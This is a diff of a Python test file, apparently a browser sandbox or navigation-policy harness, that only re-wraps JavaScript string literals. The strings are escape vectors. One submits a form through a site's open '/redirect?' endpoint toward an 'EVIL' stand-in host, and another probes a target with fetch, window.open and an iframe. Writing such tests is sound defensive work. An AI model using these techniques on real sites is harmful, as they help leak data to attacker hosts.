@@ -103,7 +103,8 @@ def _vectors() -> Iterator[Technique]:
         "a form on the way through the site",
         click(
             "const f = document.createElement('form'); f.method = 'post'; f.action = SITE + "
-            "'/redirect?' + encodeURIComponent(EVIL + '/form'); document.body.append(f); f.submit()"
+            "'/redirect?' + encodeURIComponent(EVIL + '/form'); document.body.append(f); "
+            "f.submit()"
         ),
     )
     for name in ("assign", "replace"):
@@ -148,7 +149,8 @@ def _inside() -> Iterator[Technique]:
         click(
             f"{opened}{{ fetch(to).then(() => got(to), mine); window.open(to); "
             "const f = document.createElement('iframe'); f.src = to; document.body.append(f); "
-            "f.onload = () => { try { if (f.contentDocument.body.innerText) got(to) } catch (e) {} } }"
+            "f.onload = () => { try { if (f.contentDocument.body.innerText) "
+            "got(to) } catch (e) {} } }"
         ),
     )
     yield Technique(
